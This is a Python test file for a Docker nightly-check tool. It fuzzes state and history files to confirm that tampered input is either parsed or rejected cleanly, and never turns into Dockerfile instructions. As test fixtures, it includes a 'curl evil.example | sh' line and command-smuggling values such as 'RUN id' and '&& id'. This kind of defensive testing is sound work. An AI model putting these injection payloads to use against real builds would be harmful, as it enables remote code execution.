"""Files of nights as strangers may write them: read or refused in words, and nothing acted on blindly."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nightly.made import NEW, OLD, record

from tf_docker_check.errors import UsageError
from tf_docker_check.image.reference import Reference
from tf_docker_check.nightly import history, watch_state
from tf_docker_check.nightly.history import History
from tf_docker_check.nightly.night import Night
from tf_docker_check.nightly.night_report import NightReport, Regression
from tf_docker_check.nightly.previous import HISTORY, REPORT, WATCH, merge_nights
from tf_docker_check.nightly.signature import Signature
from tf_docker_check.nightly.trial import dockerfile
from tf_docker_check.nightly.watch_state import WatchState
from tf_docker_check.upstream import document, lock, releases
from tf_docker_check.upstream.releases import Release
from tf_docker_check.upstream.watch import SeenTag
from upstream.test_lock import LOCK

EVIL = "1\nRUN curl evil.example | sh\n"
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**80), 2**80),
    st.floats(),
    st.text(max_size=20),
    st.sampled_from(
        [EVIL, "\x1b[31m", "\u2028", "--index-url=x", "../../x", "sha256:1", 10**400, 2**53, "9" * 5000]
    ),
)
ANYTHING = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner, max_size=3),
    max_leaves=8,
)
WATCHED = WatchState(
    run=7,
    attempt=1,
    when="2026-01-01T00:00:00+00:00",
    tags={"img:1": SeenTag(OLD, NEW)},
    good={"slim": {"numpy": "2"}},
    releases={"99.0.0": Release("2026-01-01T00:00:00+00:00")},
)
REPORTED = NightReport(Night(7, 1, "2026-01-01T00:00:00+00:00"), contents=("a",))
FILES: dict[str, tuple[bytes, Callable[[bytes], object]]] = {
    "lock": (lock.dump(LOCK), lambda data: lock.load(data, "lock")),
    WATCH: (document.dump(WATCHED), lambda data: watch_state.load(data, WATCH)),
    REPORT: (document.dump(REPORTED), lambda data: document.load(data, NightReport, REPORT)),
}
RECORD = history.dump(History((record(7),)))


@st.composite
def bent(draw: st.DrawFn, whole: bytes) -> bytes:
    """*whole* with one value replaced, one key renamed, or some bytes gone."""
    value = json.loads(whole)
    at: Any = value
    while True:
        key = draw(st.sampled_from(sorted(at) if isinstance(at, dict) else range(len(at))))
        if not (isinstance(at[key], dict | list) and at[key]) or draw(st.booleans()):
            break
        at = at[key]
    if isinstance(at, dict) and draw(st.booleans()):
        at[draw(st.text(max_size=9) | st.just(EVIL))] = at.pop(key)
    else:
        at[key] = draw(ANYTHING)
    data = json.dumps(value).encode()
    return data[: draw(st.integers(0, len(data)))] if draw(st.integers(0, 9)) == 0 else data


def attempt(load: Callable[[bytes], object], data: bytes) -> tuple[object, str]:
    """What *data* is, or why it is nothing."""
    try:
        return load(data), ""
    except UsageError as error:
        return None, str(error)


@pytest.mark.parametrize("name", FILES)
@given(data=st.data())
def test_a_bent_file_is_read_or_refused_in_words(name: str, data: st.DataObject) -> None:
    whole, load = FILES[name]
    written = data.draw(
        bent(whole) | st.binary(max_size=40) | ANYTHING.map(lambda any_: json.dumps(any_).encode())
    )
    found, said = attempt(load, written)
    if said:
        assert said.startswith(name)
        assert len(said) < 5000
        assert "\x1b" not in said
    else:
        assert load(document.dump(found)) == found


@given(data=st.data())
def test_a_bent_record_is_read_or_put_aside(data: st.DataObject) -> None:
    line = data.draw(bent(RECORD))
    found = history.load(RECORD + line + b"\n")
    assert 1 <= len(found.records) + len(found.damaged) <= 3
    assert any(each.run == 7 for each in found.records)
    assert history.load(history.dump(found)).records == found.records


@given(data=st.data())
def test_whatever_the_past_is_a_night_can_begin(data: st.DataObject) -> None:
    files = {name: data.draw(bent(FILES[name][0])) for name in (WATCH, REPORT)}
    found = merge_nights([{**files, HISTORY: data.draw(bent(RECORD))}])
    assert len(found.notes) <= 2
    for reference in releases.awaited_images(found.watched.releases, "2026-01-02T00:00:00+00:00"):
        assert Reference.parse(reference).tag
    for each in found.watched.tags.values():
        assert all(Reference.parse(f"img@{digest}") for digest in (each.digest, each.image) if digest)


@given(name=st.text(max_size=12) | st.just(EVIL), version=st.text(max_size=12) | st.just(EVIL))
def test_no_package_of_the_past_writes_an_instruction(name: str, version: str) -> None:
    plain = dockerfile("img", {"numpy": "2"}, ()).count("\n")
    assert dockerfile("img", {"numpy": "2", name: version}, ()).count("\n") == plain


@pytest.mark.parametrize(
    "line",
    [
        '{"run": 1, "attempt": 1, "when": "x", "cell": "a", "result": "passed", "digest": "x\\nRUN id"}',
        '{"run": 9007199254740992, "attempt": 1, "when": "x", "cell": "a", "result": "passed"}',
        '{"run": 1, "attempt": 1, "when": "x", "cell": "a", "result": "passed", "size": -1}',
        '{"run": 1, "attempt": 1, "when": "x", "cell": "a", "result": "boom"}',
        '{"run": NaN, "attempt": 1, "when": "x", "cell": "a", "result": "passed"}',
    ],
)
def test_a_record_that_no_night_wrote_is_put_aside(line: str) -> None:
    found = history.load(line.encode())
    assert (found.records, found.damaged) == ((), (line.replace("\n", " "),))


@pytest.mark.parametrize(
    "told",
    [
        {"run": 2**53},
        {"trouble": -1},
        {"tags": {"img:1": {"digest": "sha256:1", "image": ""}}},
        {"releases": {"99 && id": {"first_seen": "2026-01-01"}}},
        {"releases": {f"99.{number}": {"first_seen": "2026-01-01"} for number in range(500)}},
    ],
)
def test_a_watch_that_no_night_wrote_counts_as_none(told: dict[str, Any]) -> None:
    told_well = replace(REPORTED, regressions=(Regression(Signature("a", "cpu", ""), "id", ("a@cpu",)),))
    past = merge_nights([{WATCH: json.dumps(told).encode(), REPORT: document.dump(told_well)}])
    assert (past.watched, past.explained) == (WatchState(), told_well.regressions)
    assert "not a state" in past.notes[0]


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("deep", [b'{"tags":' * 10**6, b"[" * 10**7, b'{"a":1,' * 10**6])
def test_depth_and_length_cost_a_second_at_most(name: str, deep: bytes) -> None:
    began = time.process_time()
    with pytest.raises(UsageError):
        FILES[name][1](deep)
    assert time.process_time() - began < 1
